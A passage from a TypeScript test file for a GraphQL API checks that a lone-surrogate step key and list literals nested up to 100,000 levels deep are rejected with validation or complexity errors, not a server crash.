      keys.agency,
    );
    expect(answer.status).toBe(200);
    expect(answer.body.errors).toEqual([
      expect.objectContaining({
        extensions: { code: 'VALIDATION_FAILED', details: { field: 'input.stepKey' } },
        message: expect.stringContaining('U+D800'),
      }),
    ]);
    expect(await snapshot([])).toBe(before);
  });

  test('a list literal nested 2,000 levels deep in the document was a masked INTERNAL_SERVER_ERROR (parser stack overflow): now QUERY_TOO_COMPLEX', async () => {
    const literal = (value: unknown): string =>
      Array.isArray(value)
        ? `[${value.map(literal).join(', ')}]`
        : value && typeof value === 'object'
          ? `{ ${Object.entries(value)
              .map(([k, v]) => `${k}: ${literal(v)}`)
              .join(', ')} }`
          : JSON.stringify(value);
    const cases = [
      // Within the document's nesting limit: the door refuses the JSON (32 levels at most), naming it.
      { depth: 40, shape: 'object', code: 'VALIDATION_FAILED' },
      { depth: 40, shape: 'array', code: 'VALIDATION_FAILED' },
      { depth: 1_000, shape: 'object', code: 'QUERY_TOO_COMPLEX' },
      // One token a level: under the 2,000-token limit, and deep enough to overflow graphql-js's parser.
      { depth: 1_990, shape: 'array', code: 'QUERY_TOO_COMPLEX' },
      { depth: 100_000, shape: 'array', code: 'QUERY_TOO_COMPLEX' },
    ] as const;
    for (const { depth, shape, code } of cases) {
      // Written as text past 1,000 levels: recursion would overflow here too.
      const deep =
        depth > 1_000 ? `${'['.repeat(depth)}0${']'.repeat(depth)}` : literal(nested(depth, shape));
      const before = await snapshot([]);
      const answer = await post(
        `mutation { completeStep(input: { dossierCode: "${fixture.active}", stepKey: "${ACTIVE_PROCEDURE.activeStep}", result: ${deep} }) { code } }`,
        {},
        keys.agency,
      );
      expect({
        depth,
        shape,
        status: answer.status < 500 ? 'below 500' : answer.status,
        codes: codesOf(answer),
      }).toEqual({ depth, shape, status: 'below 500', codes: [code] });
      if (code === 'VALIDATION_FAILED')
        expect(answer.body.errors?.[0].extensions?.details?.field).toMatch(/^input\.result/);
      expect(await snapshot([])).toBe(before);
    }
  });
});
